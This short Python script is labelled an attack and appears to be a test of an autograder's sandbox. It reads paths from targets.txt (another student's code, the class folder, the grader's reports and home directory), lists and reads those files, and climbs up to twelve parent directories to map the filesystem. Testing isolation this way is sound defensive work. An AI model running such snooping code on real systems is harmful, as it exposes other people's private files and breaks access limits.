"""Attack: read another student's code, list the class folder, read the grader's reports
and home (the paths, as a student of the course could guess them, are in targets.txt)."""

import os

FINDINGS = {"read": {}, "listed": {}}
for path in open("targets.txt").read().split("\n"):
    if not path:
        continue
    try:
        if os.path.isdir(path):
            FINDINGS["listed"][path] = sorted(os.listdir(path))
        else:
            with open(path, "rb") as handle:
                FINDINGS["read"][path] = handle.read(200).decode("utf-8", "replace")
    except OSError:
        pass
# The folders above the work area, as far up as they go.
up, seen = "..", []
for _ in range(12):
    try:
        seen.append(sorted(os.listdir(up)))
    except OSError:
        break
    up = os.path.join(up, "..")
FINDINGS["above"] = seen
FINDINGS["done"] = True
